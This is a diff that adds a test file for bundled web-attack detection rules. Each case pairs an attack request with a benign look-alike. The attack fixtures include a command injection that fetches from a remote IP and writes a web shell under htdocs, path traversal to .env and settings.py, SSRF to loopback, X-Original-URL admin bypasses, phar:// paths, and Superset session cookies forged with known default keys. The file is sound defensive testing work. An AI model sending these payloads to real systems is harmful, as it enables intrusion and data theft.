@@ -1,0 +1,36 @@
+/**
+ * Bundled rules of rev 2026-12-05f (issue 18, session 15): mechanisms held-out-7's misses showed, written for
+ * the class of exploit rather than the product. Each fires on its attack, sent the way the exploit sends it,
+ * and stays quiet on the benign text closest to it.
+ */
+import { describe } from 'vitest';
+import { flaskSession } from '../inspect/decoders/flask-cookie.js';
+import type { RequestSpec } from './fixtures.js';
+import { form, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';
+
+const { hits, rules } = useBundledRuleSet();
+
+const path = (url: string): RequestSpec => ({ url });
+const pingback = (url: string): RequestSpec => xml(`<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>${url}</string></value></param><param><value><string>https://blog.example.test/?p=12</string></value></param></params></methodCall>`, '/xmlrpc.php');
+
+const CASES: RuleCase[] = [
+  [9000331, 'block', 'a backtick command writing its output into a .php under htdocs', form('user=%60echo+%24(curl+http%3A%2F%2F203.0.113.9%2Fa)+%3E+%2Fvar%2Fappweb%2Fhtdocs%2Funauth%2Fx.php%60&userRole=superuser'), json('{"body":"To test PHP, run echo \\"<?php phpinfo();\\" > /var/www/html/info.php on the server."}')],
+  [9000331, 'block', 'a $( ) substitution redirected into webapps/ROOT as a .jsp', json('{"name":"$(id > /opt/tomcat/webapps/ROOT/i.jsp)"}'), json('{"cmd":"$(date) > /var/log/app/run.log"}')],
+  [9000411, 'block', 'an alias location read past its trailing slash', path('/static../settings.py'), path('/static/css/site..min.css')],
+  [9000411, 'block', 'an encoded slash after the two dots', path('/assets..%2f.env'), path('/releases/v1..v2/compare')],
+  [9000528, 'block', 'a pingback source URL on 127.0.0.1 as an integer', pingback('http://2130706433:8080/server-status'), pingback('http://10.0.4.22:8080/server-status')],
+  [9000528, 'block', 'an import URL naming loopback through a rebinding resolver', json('{"url":"http://a1b2.7f000001.rbndr.us:8055/","data":{"title":"x"}}'), json('{"url":"http://127.0.0.1:3001/webhooks/stripe","data":{"title":"x"}}')],
+  [9000528, 'block', 'a localtest.me host in a form value', form('feed=http%3A%2F%2Fadmin.localtest.me%2F&save=1'), form('feed=https%3A%2F%2Fwww.meagerparsnip.io%2Frss&save=1')],
+  [9001253, 'block', 'X-Original-URL routing a public request to /admin', header('X-Original-URL', '/admin/users/create?username=x&role=admin'), header('X-Forwarded-Prefix', '/admin')],
+  [9001253, 'block', 'X-Rewrite-URL naming the actuator', header('X-Rewrite-URL', '/actuator/env'), header('X-Rewrite-URL', '/products/42')],
+  [9001345, 'block', 'a phar:// path to an uploaded image in a form', form('template=phar%3A%2F%2Fuploads%2Favatars%2Fa1.jpg&action=import'), form('note=phar+files+are+PHP+archives&action=import')],
+  [9001345, 'block', 'a phar:// path in a query value', q('path=phar:///tmp/phpA1b2/x.txt'), q('q=pharmacy%20near%20me')],
+  [9001344, 'block', "a Superset session signed with the shipped default key (CVE-2023-27524)", header('Cookie', `session=${flaskSession('\x02\x01thisismyscretkey\x01\x02\\e\\y\\y\\h', { _user_id: 1, user_id: 1 })}`), header('Cookie', `session=${flaskSession('9f1c-a-key-only-this-deployment-has', { _user_id: 1, user_id: 1 })}`)],
+  [9001344, 'block', 'a compressed session signed with the Docker example key', header('Cookie', `session=${flaskSession('thisISaSECRET_1234', { _user_id: 2, _fresh: true }, true)}; locale=en`), header('Cookie', `session=${flaskSession('thisISaSECRET_12345', { _user_id: 2, _fresh: true }, true)}; locale=en`)],
+];
+
+describe("bundled rules for held-out-7's exploit mechanisms (rev 2026-12-05f)", () => {
+  testRuleCases(CASES, hits);
+
+  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
+});
